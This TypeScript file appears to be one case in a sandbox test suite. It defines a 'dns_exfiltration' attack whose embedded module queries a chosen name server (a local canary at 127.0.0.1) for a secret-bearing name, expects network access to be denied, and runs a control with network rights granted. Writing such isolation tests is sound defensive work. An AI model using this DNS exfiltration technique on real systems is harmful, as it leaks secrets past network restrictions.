import { type Attack, denied, js } from "../attack.ts";
import { alteredCell, holding } from "../controls/altered_cell.ts";
import { canaryHit } from "../proofs.ts";

export default {
  name: "dns_exfiltration",
  what: "Puts a secret into a name and asks a name server of its own choice for it.",
  module: js`
    export default {
      async run(at, ctx) {
        const nameServer = { ipAddr: "127.0.0.1", port: at.udpPort };
        const lookup = Deno.resolveDns("secret.example", "A", { nameServer });
        ctx.emit("asked");
        return await lookup;
      },
    };`,
  expect: denied("net"),
  control: alteredCell("net granted", { rights: holding("net"), limits: { wallMs: 700 } }),
  proof: canaryHit("udp"),
} satisfies Attack;
